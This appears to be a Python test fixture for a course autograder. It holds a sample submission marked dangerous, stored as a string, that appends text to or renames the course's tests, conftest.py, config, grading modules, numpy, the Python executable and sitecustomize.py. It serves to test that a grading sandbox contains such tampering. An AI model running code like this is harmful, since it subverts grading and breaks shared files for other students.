"""Rewrites checks, plugin and library where they lie, for the exercises and students that follow."""

EXERCISE = "scaling_ex01"
DANGEROUS = True
SUBMITTED = r"""
import os, sys
import grading, numpy, profiling_lab
from pathlib import Path

PATCH = "\nimport sys\n"
places = [*Path("@COURSE@/tests").rglob("test_single_gpu_baseline.py"), Path("@COURSE@/course.toml"),
          Path("@COURSE@/conftest.py"), Path(numpy.__file__), Path(profiling_lab.__file__), Path(sys.executable)]
places += [Path(module.__file__) for name, module in list(sys.modules.items())
           if name.startswith(("grading", "profiling_lab")) and getattr(module, "__file__", None)]
places += [Path(folder, "sitecustomize.py") for folder in sys.path if folder]
for place in places:
    try:
        with open(place, "a") as file:
            file.write(PATCH)
    except OSError:
        try:
            os.replace(place, str(place) + ".away")
        except OSError:
            pass

def attack(name, *args, **kwargs):
    return {}
"""
